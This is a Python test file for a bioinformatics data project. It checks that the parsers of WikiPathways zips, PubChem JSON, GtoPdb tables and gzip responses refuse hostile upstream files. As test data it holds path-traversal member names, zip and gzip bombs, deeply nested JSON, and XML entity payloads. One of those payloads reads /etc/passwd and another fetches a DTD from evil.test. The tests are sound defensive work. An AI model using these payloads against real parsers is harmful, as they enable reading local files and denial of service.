"""Files of an upstream that are meant to do harm: refused with a sentence, or harmless."""

import gzip
import io
import zipfile
from pathlib import Path

import httpx
import msgspec
import pytest

from biofacts.adapters.http import gtopdb
from biofacts.adapters.http.base_client import ColumnReader
from biofacts.adapters.http.pubchem import response_formats
from biofacts.adapters.http.pubchem.transports import StatusTransport
from biofacts.adapters.http.transport.base import BodyTooLarge
from biofacts.adapters.http.transport.cache import CoalesceTransport
from biofacts.adapters.http.wikipathways import gpml
from biofacts.adapters.http.wikipathways.client import read_drawings
from biofacts.adapters.http.wikipathways.index_files import read_listed, read_mapped
from biofacts.domain.answers.errors import UpstreamError
from biofacts.domain.pathways.pathway import Drawing
from biofacts.ports.published_files import Unreadable
from tests.small_pathways import PATHWAYS
from tests.wikipathways_files import gpml_file

GLYCOLYSIS = gpml_file(PATHWAYS[0])
SYMLINK = 0o120777 << 16


def packed(*members: tuple[str | zipfile.ZipInfo, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w", method) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return body.getvalue()


def drawings_of(archive: bytes) -> list[Drawing]:
    """The drawings in a zip. Raises: ValueError for the first thing in it that cannot be read."""
    found = list[Drawing]()
    for one in read_drawings("a.zip", archive):
        if isinstance(one, Unreadable):
            raise ValueError(one.why)
        found.append(one)
    return found


@pytest.mark.parametrize(
    "name",
    [
        "../../evil.gpml",
        "/etc/evil.gpml",
        "C:\\evil.gpml",
        "a/../../evil.gpml",
        "evil\x1b[31m.gpml",
        "x" * 9000 + ".gpml",
    ],
)
def test_the_names_of_members_lead_nowhere(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Members are read in memory, and named by what they hold."""
    monkeypatch.chdir(tmp_path)
    drawings = drawings_of(packed((name, GLYCOLYSIS)))

    assert [drawing.local_id for drawing in drawings] == ["WP534"]
    assert list(tmp_path.rglob("*")) == []


def test_a_symbolic_link_is_not_followed(tmp_path: Path) -> None:
    secret = tmp_path / "secret.gpml"
    secret.write_bytes(GLYCOLYSIS)
    link = zipfile.ZipInfo("link.gpml")
    link.external_attr = SYMLINK
    with pytest.raises(ValueError, match="well-formed XML"):
        drawings_of(packed((link, str(secret).encode())))


@pytest.mark.parametrize(("size", "is_unpacked"), [(32 * 2**20, True), (32 * 2**20 + 1, False)])
def test_a_zip_bomb_is_refused_before_it_is_unpacked(size: int, is_unpacked: bool) -> None:
    bomb = packed(("bomb.gpml", bytes(size)))

    assert len(bomb) < 100_000
    with pytest.raises(ValueError) as refused:  # noqa: PT011 - what is unpacked is refused for another reason
        drawings_of(bomb)
    assert (str(refused.value) != "it is larger than 33554432 bytes") is is_unpacked


def test_a_member_that_lies_about_its_size_is_read_no_further() -> None:
    body = bytearray(packed(("bomb.gpml", bytes(20 * 1024 * 1024))))
    size = (20 * 1024 * 1024).to_bytes(4, "little")
    while (at := body.find(size)) >= 0:
        body[at : at + 4] = (100).to_bytes(4, "little")
    with pytest.raises(ValueError, match=r"unpacked|XML"):
        drawings_of(bytes(body))


def test_an_archive_in_an_archive_is_left_alone() -> None:
    assert drawings_of(packed(("inner.zip", packed(("a.gpml", GLYCOLYSIS))))) == []


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA, zipfile.ZIP_DEFLATED])
def test_a_damaged_member_is_refused(method: int) -> None:
    body = bytearray(packed(("a.gpml", GLYCOLYSIS), method=method))
    for at in range(50, 90):
        body[at] ^= 0x5A
    with pytest.raises(ValueError, match=r".+"):
        drawings_of(bytes(body))


def test_an_encrypted_member_is_refused() -> None:
    body = bytearray(packed(("a.gpml", GLYCOLYSIS)))
    for header, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        body[body.find(header) + flags] |= 1
    with pytest.raises(ValueError, match="encrypted"):
        drawings_of(bytes(body))


def test_a_drawing_of_a_hundred_thousand_nested_elements_is_harmless() -> None:
    depth = 100_000
    nested = GLYCOLYSIS.replace(b"</Pathway>", b"<x>" * depth + b"</x>" * depth + b"</Pathway>")

    assert msgspec.structs.replace(gpml.read(nested), file=b"") == msgspec.structs.replace(
        gpml.read(GLYCOLYSIS), file=b""
    )


def test_entities_are_not_expanded() -> None:
    for hostile in (
        b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><a>&b;</a>',
        b'<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><a>&a;</a>',
        b'<!DOCTYPE a [<!ENTITY % a SYSTEM "http://evil.test/x.dtd"> %a;]><a/>',
    ):
        with pytest.raises(ValueError, match="document type"):
            drawings_of(packed(("a.gpml", hostile)))


DEEP = (
    b"[" * 200_000,
    b'{"a":' * 200_000,
    b'{"pathwayInfo":' + b"[" * 200_000,
    b'{"Record":' + b'{"Section":[' * 100_000,
)


@pytest.mark.parametrize("body", DEEP, ids=["lists", "objects", "in the index", "in the page"])
def test_json_that_is_nested_without_end_cannot_be_read(body: bytes) -> None:
    for read in (read_listed, read_mapped):
        with pytest.raises(ValueError, match=r".+"):
            list(read(body))
    for kind in (
        response_formats.RecordView,
        response_formats.PropertyTable,
        response_formats.Completions,
        response_formats.SynonymList,
    ):
        with pytest.raises(UpstreamError, match=r"^PubChem is unavailable: "):
            response_formats.read(body, kind, "PubChem")

    assert response_formats.fault(body) is None


async def test_json_that_is_nested_without_end_is_no_answer_of_pubchem() -> None:
    network = StatusTransport(httpx.MockTransport(lambda _: httpx.Response(200, content=DEEP[0])))
    async with httpx.AsyncClient(transport=network) as client:
        assert (await client.get("http://pubchem.test/")).status_code == 502


def test_a_page_of_deep_sections_is_read_to_the_bottom() -> None:
    section = response_formats.Section(heading="the bottom")
    for _ in range(50_000):
        section = response_formats.Section(sections=[section])

    assert [found.heading for found in section.under("the bottom")] == ["the bottom"]


async def test_a_gzip_bomb_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("biofacts.adapters.http.transport.base.LARGEST_BODY", 1_000_000)
    bomb = gzip.compress(bytes(1_900_000))

    def answer(_: httpx.Request) -> httpx.Response:
        return httpx.Response(200, headers={"Content-Encoding": "gzip"}, stream=httpx.ByteStream(bomb))

    assert len(bomb) < 100_000
    async with httpx.AsyncClient(transport=CoalesceTransport(httpx.MockTransport(answer))) as client:
        with pytest.raises(BodyTooLarge):
            await client.get("http://upstream.test/")


def test_a_cell_without_end_is_no_table() -> None:
    with pytest.raises(ValueError, match="not a table"):
        list(gtopdb.read_rows(b'"Ligand ID"\n"' + b"x" * 1_000_000, ColumnReader(["Ligand ID"], ["Name"])))


@pytest.mark.parametrize(
    ("number", "element", "why"),
    [(1_000_000, '<Point X="1" Y="2"/>', "8388608 bytes"), (100_001, "<Label/>", "100000 elements")],
)
def test_a_drawing_with_more_in_it_than_any_is_refused(number: int, element: str, why: str) -> None:
    with pytest.raises(gpml.GpmlError, match=f"more than {why}"):
        gpml.read(f'<Pathway xmlns="http://pathvisio.org/GPML/2013a">{element * number}</Pathway>'.encode())
